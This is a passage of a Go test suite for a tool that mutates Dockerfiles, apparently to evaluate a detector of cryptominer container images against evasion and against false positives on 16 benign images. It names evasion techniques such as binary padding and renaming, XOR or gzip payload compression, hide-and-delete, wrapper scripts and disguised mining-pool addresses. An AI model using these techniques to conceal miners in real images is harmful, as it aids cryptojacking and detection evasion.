				t.Run(fmt.Sprintf("%s/%s/%d", fx.name, name, seed), func(t *testing.T) {
					f := newPayloadFixture(t, []byte(head+fx.df), map[string][]byte{"prog*": []byte(progScript)})
					if got := runImage(t, f); got != fx.want {
						t.Fatalf("unmutated fixture prints\n%s\nwant\n%s", got, fx.want)
					}
					if err := ApplyPayload(getPayload(t, name), f.p, seed, Env{}); err != nil {
						t.Fatal(err)
					}
					seen[strings.Contains(string(f.p.Dockerfile), "tr '")] = true
					if got := runImage(t, f); got != fx.want {
						t.Errorf("mutated image prints\n%s\nwant\n%s\nDockerfile:\n%s", got, fx.want, f.p.Dockerfile)
					}
				})
			}
			if name == "compress-payload" && len(seen) != 2 {
				t.Errorf("%s: 6 seeds did not give both the gzip and the XOR variant", fx.name)
			}
		}
	}
}

// TestPaddedELFRuns pads a copy of /bin/true and runs it.
func TestPaddedELFRuns(t *testing.T) {
	bin, err := os.ReadFile("/bin/true")
	if err != nil || !bytes.HasPrefix(bin, []byte("\x7fELF")) {
		t.Skip("no ELF /bin/true")
	}
	f := newPayloadFixture(t, []byte("FROM debian:bookworm\nADD --chmod=755 true /usr/local/bin/ok\nENTRYPOINT [\"/usr/local/bin/ok\"]\n"),
		map[string][]byte{"true*": bin})
	if err := ApplyPayload(getPayload(t, "pad-binary"), f.p, 1, Env{}); err != nil {
		t.Fatal(err)
	}
	padded := filepath.Join(f.p.Dir, "true")
	b, _ := os.ReadFile(padded)
	if len(b) <= len(bin) {
		t.Fatal("not padded")
	}
	if out, err := exec.Command(padded).CombinedOutput(); err != nil {
		t.Errorf("padded /bin/true: %v %s", err, out)
	}
}

// ---------------------------------------------------------------------------
// Applicability

// needsPayloadFile are the types that change a payload file or an
// ENTRYPOINT/CMD; the other two apply to every image.
var alwaysApplicable = []string{"timestamp-epoch", "typosquat-label"}

// TestPayloadAppliesWithL9: every type applies to every case with the
// miner binary and its ENTRYPOINT.
func TestPayloadAppliesWithL9(t *testing.T) {
	for _, bits := range []string{"010", "011", "110", "111"} {
		for _, m := range payloadMutations() {
			f := drupalFixture(t, bits)
			src := f.p.Dockerfile
			if err := ApplyPayload(m, f.p, 5, Env{}); err != nil {
				t.Errorf("case %s: %v", bits, err)
				continue
			}
			checkPayload(t, src, f)
		}
	}
}

func TestPayloadNotApplicable(t *testing.T) {
	for _, bits := range []string{"101", "000", "100", "001"} {
		for _, m := range payloadMutations() {
			t.Run(bits+"/"+m.Name(), func(t *testing.T) {
				f := drupalFixture(t, bits)
				src := f.p.Dockerfile
				err := ApplyPayload(m, f.p, 1, Env{})
				if slices.Contains(alwaysApplicable, m.Name()) {
					if err != nil {
						t.Fatal(err)
					}
					return
				}
				if !errors.Is(err, ErrNotApplicable) {
					t.Fatalf("error %v, want ErrNotApplicable (no L9 binary, no ENTRYPOINT)", err)
				}
				if !bytes.Equal(f.p.Dockerfile, src) || len(contextChanges(f.orig, snapshot(t, f.p.Dir))) > 0 {
					t.Error("a not-applicable mutation changed the payload")
				}
			})
		}
	}
}

// benignApplicable pins where each type applies on the 16 benign images
// (seed 1); the rest must be ErrNotApplicable.
var benignApplicable = map[string][]string{
	"pad-binary":           {"cloudinit-base64", "cron-backup", "monero-wallet-rpc", "nginx-hugepages"},
	"rename-binary":        {"cloudinit-base64", "cron-backup", "monero-wallet-rpc", "nginx-hugepages"},
	"split-payload":        {"cloudinit-base64", "nginx-hugepages"},
	"compress-payload":     {"cloudinit-base64", "nginx-hugepages"},
	"hide-and-delete":      {"cloudinit-base64", "cron-backup", "electrum-wallet", "monero-node", "monero-node-healthcheck", "monero-wallet-rpc", "nginx-hugepages", "restic-backup"},
	"wrapper-script":       {"build-then-clean", "cloudinit-base64", "cron-backup", "crypto-signer", "curl-sh-installer", "dev-busy", "drupal-cron", "electrum-wallet", "geology-webapp", "monero-node", "monero-node-healthcheck", "monero-wallet-rpc", "nginx-hugepages", "restic-backup", "systemd-units"},
	"pool-env":             nil,
	"pool-raw-ip":          nil,
	"pool-unlisted-domain": nil,
}

// TestPayloadBenignApplicability applies every payload type to every
// benign corpus image (experiment 3's false-positive controls), logs where
// each applies and what it targets, and checks the result: it parses, no
// marker appears, the stages before the final one are unchanged.
func TestPayloadBenignApplicability(t *testing.T) {
	debsDir := t.TempDir()
	if err := os.WriteFile(filepath.Join(debsDir, "fake_1.0_all.deb"), []byte("!<arch>\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	images := benign.Images()
	if len(images) != 16 {
		t.Errorf("%d benign images, want 16", len(images))
	}
	var log strings.Builder
	applies := map[string]map[string]bool{}
	for _, m := range payloadMutations() {
		applies[m.Name()] = map[string]bool{}
		var applied []string
		for _, im := range images {
			df, err := im.Dockerfile(benign.Options{ServerURL: testServerURL})
			if err != nil {
				t.Fatal(err)
			}
			dir := filepath.Join(t.TempDir(), "ctx")
			if err := im.WriteContext(dir, debsDir); err != nil {
				t.Fatal(err)
			}
			f := &payloadFixture{p: &Payload{Dockerfile: df, Dir: dir}}
			f.orig = snapshot(t, dir)
			err = ApplyPayload(m, f.p, 1, Env{ServerURL: testServerURL})
			switch {
			case errors.Is(err, ErrNotApplicable):
				_, why, _ := strings.Cut(err.Error(), ErrNotApplicable.Error()+": ")
				fmt.Fprintf(&log, "%-20s %-23s n/a: %s\n", m.Name(), im.Name, why)
				continue
			case err != nil:
				t.Errorf("%s on %s: %v", m.Name(), im.Name, err)
				continue
			}
			applied = append(applied, im.Name)
			applies[m.Name()][im.Name] = true
			checkPayload(t, df, f)
			if g := groundTruth(t, f.p.Dockerfile); len(g) > 0 {
				t.Errorf("%s on benign %s: marked instructions %v", m.Name(), im.Name, g)
			}
			what := newLines(df, f.p.Dockerfile)
			for _, c := range contextChanges(f.orig, snapshot(t, dir)) {
				c, _, _ = strings.Cut(c, " sha256:")
				what = append(what, "context "+c)
			}
			if m.Name() == "timestamp-epoch" {
				what = append(what, "epoch "+f.p.Epoch.Format(time.DateOnly))
			}
			fmt.Fprintf(&log, "%-20s %-23s applied: %s\n", m.Name(), im.Name, strings.Join(what, " | "))
		}
		want, pinned := benignApplicable[m.Name()]
		if !pinned && slices.Contains(alwaysApplicable, m.Name()) {
			for _, im := range images {
				want = append(want, im.Name)
			}
		}
		slices.Sort(applied)
		slices.Sort(want)
		if !slices.Equal(applied, want) {
			t.Errorf("%s applies to %v, want %v", m.Name(), applied, want)
		}
	}
	var matrix strings.Builder
	fmt.Fprintf(&matrix, "%-24s", "")
	for _, m := range payloadMutations() {
		fmt.Fprintf(&matrix, " %.6s", m.Name())
	}
	matrix.WriteString("\n")
	for _, im := range images {
		fmt.Fprintf(&matrix, "%-24s", im.Name)
		for _, m := range payloadMutations() {
			cell := "-"
			if applies[m.Name()][im.Name] {
				cell = "yes"
			}
			fmt.Fprintf(&matrix, " %-6s", cell)
		}
		matrix.WriteString("\n")
	}
	t.Logf("payload mutations on the benign corpus (seed 1):\n%s\n%s", matrix.String(), log.String())
}

// newLines lists the lines of got that are not in orig.
func newLines(orig, got []byte) []string {
	have := map[string]int{}
	for l := range strings.SplitSeq(string(orig), "\n") {
		have[l]++
	}
	var out []string
	for l := range strings.SplitSeq(string(got), "\n") {
		if have[l] > 0 {
			have[l]--
			continue
		}
		if l != "" {
			out = append(out, l)
		}
	}
	return out
}
